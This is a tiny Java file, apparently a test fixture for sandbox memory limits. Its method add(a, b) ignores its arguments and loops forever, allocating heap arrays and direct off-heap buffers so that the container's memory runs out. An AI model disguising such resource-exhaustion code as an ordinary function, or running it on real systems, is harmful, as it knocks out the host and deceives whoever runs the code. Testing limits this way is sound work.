import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

public class adder {
  public static int add(int a, int b) {
    // On the heap and beside it: the box is full before the heap is.
    List<Object> kept = new ArrayList<>();
    while (true) {
      kept.add(new byte[1 << 20]);
      kept.add(ByteBuffer.allocateDirect(1 << 20));
    }
  }
}
